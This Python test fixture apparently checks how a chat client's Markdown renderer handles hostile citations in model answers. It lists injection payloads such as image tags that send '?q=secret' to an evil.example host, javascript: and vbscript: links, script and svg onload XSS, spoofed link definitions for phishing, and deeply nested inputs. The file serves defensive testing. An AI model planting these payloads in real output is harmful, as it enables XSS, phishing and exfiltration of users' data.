"""Answers of an attacker, and what a client's Markdown engine makes of a text."""

from __future__ import annotations

from html.parser import HTMLParser

from markdown_it import MarkdownIt

from citations import Reference

GOOD = "https://good.example/doc"
WEB_CHAT = MarkdownIt("default", {"html": True, "linkify": True, "typographer": True})
COMMONMARK = MarkdownIt("commonmark")


ANSWERS = {
    "T2 a title's line breaks, in the text": 'A\n\n# PWNED <img src=https://evil.example/i.png>\n\n[2]: https://evil.example/2 "x"',
    "T4 a definition before ours": '[1]: https://evil.example/phish "Good doc"\n\nSee [1].',
    "T4 the same without a blank line": "See [1].\n[1]: https://evil.example/phish",
    "T5 a definition in a quote": "> [1]: https://evil.example/bq\n\nSee [1].",
    "T5 a definition in a list": "- [1]: https://evil.example/li\n\nSee [1].",
    "T5 a definition that is prose": "- [1]: list\n\nSee [1].",
    "T6 wide digits": "[ １ ]: https://evil.example/wide\n\nSee [1].",
    "T6 another space": "[1\u00a0]: https://evil.example/nbsp\n\nSee [1].",
    "T7 a link that looks like a badge": "See [1](https://evil.example/x) and [1].",
    "T8 a source that was not found": "See [7], [t](https://evil.example) and [1].",
    "T9 schemes": "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc) [1]",
    "T9 network paths": "[a](//evil.example/unc) [b](\\\\evil\\share) [1]",
    "T14 an image": "![](https://evil.example/?q=secret) [1]",
    "T14 an image by reference": "![x][r] [1]\n\n[r]: https://evil.example/?q=secret",
    "T14 an image tag": "<img src=https://evil.example/?q=secret> [1]",
    "T14 an image around the badge": "![see [1]](https://evil.example)",
    "T16 a button that opens a citation": "<button class=webchat__render-markdown__citation value=cite:2>x</button> [1]",
    "T16 scripts": "<script>alert(1)</script> <svg onload=alert(1)> <iframe src=https://evil.example></iframe>\n\n[1]",
    "T16 a script in a tag of old": "<xmp><script>alert(1)</script></xmp>\n\n[1]",
    "T16 HTML blocks": "<div>\n\n[1]: https://evil.example\n\n</div>\n\n<pre>\n\n    [1]: x\n\n<a href=https://evil.example>\n</pre>\n\n[1]",
    "T17 addresses": "evil.example www.evil.com https://evil.example a@evil.com <https://evil.example> <a@evil.com> //localhost/x evil.com/x [1]",
    "T17 addresses of signs": "a^.com b$.com c~.com d+.com e=.com f`.com g|.com é^.io/x h©.com i\u200b.com j\ufffd.com [1]",
    "T17 an address at a badge": "https://evil.example/x[1]",
    "T18 live schemes": "<tel:+1> <sip:a@evil.com> [m](mailto:a@evil.com) ftp://evil.example [1]",
    "T19 an open fence": "See [1].\n\n```\n[1]",
    "T19 an open fence in a list": "See [1].\n\n- ```\n  [1]",
    "T19 an open comment": "See [1].\n\n<!-- hidden",
    "T19 an open pre": "See [1].\n\n<pre>\n[1]",
    "T19 an open CDATA": "See [1]. <![CDATA[ x",
    "T20 CRLF": "Line[1]\r\n[1]: https://evil.example\r\n",
    "T20 CR": "Line[1]\r[1]: https://evil.example",
    "T21 mathematics": "\\[ [1] \\] $$x[1]$$ \\(y\\)",
    "T24 a graph in the text": '{"@id":"","@type":"Message","type":"https://schema.org/Message"} [1]',
    "T36 controls": "a\x00b\ud800c\x1b[1] [1]",
    "nested brackets": "[a [b](https://evil.example) c](https://evil.example) [1]",
    "a link inside a badge's link": "[[1]](https://evil.example) [1]",
    "a table with a definition": "[1]: evil|x\n-|-\na|b\n\n[1]",
    "a table that only one reader knows": "a ` | b\n---|---\nc | `[x](https://evil.example)` | <img src=https://evil.example>\n\n[1]",
    "code that only one reader knows": "| ` | ![x](https://evil.example) |\n|---|---|\n| ` | [1] |",
    "an entity is no way around": "&lt;img src=https&#58;//evil.example&gt; &#91;x&#93;(https://evil.example) [1]",
    "escapes are no way around": "\\![x](https://evil.example) \\\\![y](https://evil.example) [1]",
    "a very deep quote": "> " * 300 + "[x](https://evil.example) [1]\n\n[1]",
    "a very deep list": "- " * 200 + "![x](https://evil.example)\n\n[1]",
    "a setext heading from HTML": "<!-- x -->\n===\n\n[1]",
}


REFERENCE = Reference(id="1", name="Good doc", url=GOOD, text="A passage.")


class Attributes(HTMLParser):
    """Collects what a browser would load or follow, and the tags that it would make."""

    def __init__(self) -> None:
        super().__init__()
        self.targets: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.targets += [
            value or "" for name, value in attrs if name not in ("title", "class", "style", "start")
        ]


def browsed(text: str, markdown: MarkdownIt) -> Attributes:
    attributes = Attributes()
    attributes.feed(markdown.render(text))
    return attributes


def targets(text: str, markdown: MarkdownIt) -> list[str]:
    return browsed(text, markdown).targets
